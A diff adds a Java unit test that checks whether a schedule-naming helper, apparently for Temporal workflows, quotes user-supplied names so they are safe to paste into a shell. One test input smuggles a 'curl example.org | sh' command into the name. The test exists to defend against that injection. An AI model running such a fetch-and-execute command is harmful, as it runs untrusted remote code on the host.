@@ -116,6 +116,13 @@ class ScheduleCommandTest {
             "jitter from 0s to 30s");
   }
 
+  @Test
+  void aCommandAboutAScheduleThatSomebodyNamedAsTheyLikedIsSafeToPaste() {
+    assertThat(Schedules.wordsFor("acme", "hourly-readiness")).isEqualTo("acme hourly-readiness");
+    assertThat(Schedules.wordsFor("acme", "x; curl example.org | sh"))
+        .isEqualTo("acme 'x; curl example.org | sh'");
+  }
+
   private static io.temporal.client.WorkflowOptions action(Schedule schedule) {
     return ((ScheduleActionStartWorkflow) schedule.getAction()).getOptions();
   }
